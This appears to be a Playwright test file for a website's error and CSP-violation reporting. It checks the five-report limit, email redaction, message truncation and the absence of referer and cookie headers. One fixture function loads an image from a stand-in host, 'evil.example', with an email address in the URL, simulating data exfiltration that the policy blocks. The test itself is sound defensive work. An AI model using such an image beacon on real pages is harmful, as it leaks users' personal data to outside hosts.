import { allowError, configuredOrigin, expect, goto, test } from "./fixtures";

const address = "https://reports.longcloud.test/site";

interface Report {
	type: string;
	url: string;
	body: Record<string, unknown> & { message?: string };
}

test.use({ baseURL: configuredOrigin });

test("errors and what the policy stopped are reported, five a document, without personal data", async ({
	page,
}) => {
	allowError(/^(Error|TypeError): |Content Security Policy|status of 404/);
	const reports: Report[] = [];
	const headers: Record<string, string>[] = [];
	await page.route(`${address}**`, (route) => {
		reports.push(...(route.request().postDataJSON() as Report[]));
		headers.push(route.request().headers());
		return route.fulfill({ status: 204 });
	});
	await page.route("https://counter.longcloud.test/**", (route) =>
		route.fulfill({ contentType: "text/javascript", body: "" }),
	);
	// A script from the site's own origin, with functions that fail.
	await page.route("**/assets/fault.js?*", (route) =>
		route.fulfill({
			contentType: "text/javascript",
			body: `export const fault = (text) => setTimeout(() => { throw new Error(text) });
export const refusal = (text) => { Promise.reject(new TypeError(text)) };
export const picture = (text) => { new Image().src = "https://evil.example/" + text };`,
		}),
	);
	const fail = (how: "fault" | "refusal" | "picture", text: string) =>
		page.evaluate(
			async ([how = "", text = ""]) => {
				const script = "/assets/fault.js?email=someone@example.com";
				(await import(script))[how](text);
			},
			[how, text],
		);
	await goto(page, "/contact?email=someone@example.com#part");

	// Errors of extensions and muted ones aren't reported. They come first, so that a report would, too.
	await page.evaluate(() => {
		const foreign = new Error("an extension's");
		foreign.stack = "Error: an extension's\n at chrome-extension://abc/script.js:1:1";
		dispatchEvent(new ErrorEvent("error", { error: foreign, filename: "chrome-extension://abc" }));
		dispatchEvent(new ErrorEvent("error", { message: "Script error." }));
		const promise = Promise.resolve();
		dispatchEvent(new PromiseRejectionEvent("unhandledrejection", { promise, reason: "no" }));
	});
	const url = `${configuredOrigin}/contact`;
	await fail("fault", "No account of someone@example.com here");
	await expect.poll(() => reports).toHaveLength(1);
	await fail("refusal", "refused");
	await expect.poll(() => reports).toHaveLength(2);
	await fail("picture", "pixel.png?email=someone@example.com");
	await expect.poll(() => reports).toHaveLength(3);
	await fail("fault", "a long one ".repeat(100));
	await expect.poll(() => reports).toHaveLength(4);
	expect(reports).toEqual([
		{
			type: "error",
			url,
			body: {
				message: "No account of … here",
				stack: expect.stringMatching(/^Error: No account of … here\n.*\/assets\/fault\.js/),
			},
		},
		{ type: "error", url, body: { message: "refused", stack: expect.any(String) } },
		{
			type: "csp-violation",
			url,
			body: expect.objectContaining({
				effectiveDirective: "img-src",
				blockedURL: "https://evil.example/pixel.png",
			}),
		},
		{ type: "error", url, body: expect.anything() },
	]);
	expect(reports[3]?.body.message).toHaveLength(600);
	expect(JSON.stringify(reports)).not.toMatch(/someone|@example/);
	for (const sent of headers) {
		expect(Object.keys(sent)).not.toContain("referer");
		expect(Object.keys(sent)).not.toContain("cookie");
	}
	// The fifth is the last.
	for (let count = 0; count < 3; count += 1) await fail("fault", `again ${count}`);
	await expect.poll(() => reports).toHaveLength(5);
	// An address in the path, too. That it comes next shows that nothing else came before.
	await goto(page, "/someone%40example.com");
	await fail("fault", "on a page with an address");
	await expect.poll(() => reports).toHaveLength(6);
	expect(reports[5]?.body.message).toBe("on a page with an address");
	expect(reports[5]?.url).not.toContain("someone");
});
